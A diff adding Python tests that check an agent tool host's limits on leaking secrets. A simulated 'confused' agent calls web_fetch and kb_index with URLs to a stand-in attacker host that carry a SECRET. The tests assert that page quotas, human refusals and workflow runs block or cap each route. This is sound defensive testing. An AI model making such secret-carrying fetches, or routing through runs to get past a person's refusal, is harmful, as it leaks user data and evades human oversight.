@@ -174,6 +174,66 @@ async def test_the_default_lets_little_out_and_says_so(bounded: Chain) -> None:
     assert all(SECRET not in str(dict(row)) for row in rows)
 
 
+async def test_under_the_default_every_door_to_a_page_draws_on_one_quota(bounded: Chain) -> None:
+    async with bounded.host() as host:
+        await host.confused()
+        most = BOUNDS[Sort.PAGE].each
+        urls = [f"{bounded.evil}/indexed/{number}/{SECRET}" for number in range(most + 1)]
+        for url in urls:
+            await host.call("kb_index", collection="pages", urls=[url])
+        assert len(set(bounded.taken())) == most
+        for door in (by_path, by_index, by_workflow, by_sub_workflow, by_a_run_that_a_run_is_told_of):
+            assert await door(host) == "limit_hit", door.__name__
+        assert len(set(bounded.taken())) == most
+
+
+async def test_under_the_default_a_recalled_note_opens_no_more_than_the_bounds(bounded: Chain) -> None:
+    async with bounded.host() as host:
+        await host.confused()
+        await host.good("kb_remember", title="The token", text=f"The token is {SECRET}")
+    async with bounded.host() as later:
+        assert SECRET in (await later.good("kb_search", query="token"))["items"][0]["text"]
+        assert await by_query(later) == "forbidden"
+        most = BOUNDS[Sort.PAGE].each
+        for number in range(most):
+            await later.call("web_fetch", url=f"{bounded.evil}/{number}/{SECRET}")
+        assert await by_path(later) == "limit_hit"
+        assert len(bounded.taken()) == most
+
+
+async def test_under_the_default_no_call_opens_a_door_against_a_persons_word(bounded: Chain) -> None:
+    for door in (by_query, by_path, by_name, by_a_given_page, by_search, by_index, by_package):
+        someone = Person(NO)
+        async with bounded.host(elicitation_callback=someone) as host:
+            await host.confused()
+            assert await door(host) in ("forbidden", "approval_required"), door.__name__
+            assert len(someone.shown) == 1, door.__name__
+    assert bounded.taken() == []
+
+
+async def test_a_run_is_no_way_past_a_person_who_can_be_asked(bounded: Chain) -> None:
+    someone = Person(YES)
+    for door in (by_workflow, by_sub_workflow, by_a_run_that_a_run_is_told_of):
+        async with bounded.host(elicitation_callback=someone) as host:
+            await host.confused()
+            assert await door(host) == "forbidden", door.__name__
+    assert (someone.shown, bounded.taken()) == ([], [])
+    async with bounded.host(elicitation_callback=someone) as host:
+        await host.confused()
+        await host.call("web_fetch", url=f"{bounded.evil}/?q=asked")
+        assert await by_workflow(host) == "not_found", "their yes to the recipient counts for the session's runs"
+    assert (len(someone.shown), len(bounded.taken())) == (1, 1)
+
+
+async def test_what_a_person_refused_is_refused_to_runs_of_the_session_too(bounded: Chain) -> None:
+    async with bounded.host(elicitation_callback=Person(NO)) as host:
+        await host.confused()
+        assert await by_path(host) in ("forbidden", "approval_required")
+        for door in (by_workflow, by_sub_workflow, by_a_run_that_a_run_is_told_of):
+            assert await door(host) == "forbidden", door.__name__
+    assert bounded.taken() == []
+
+
 async def test_ordinary_life_goes_on_within_the_bounds(bounded: Chain) -> None:
     async with bounded.host() as host:
         await host.good("fs_read", path="secrets.py")
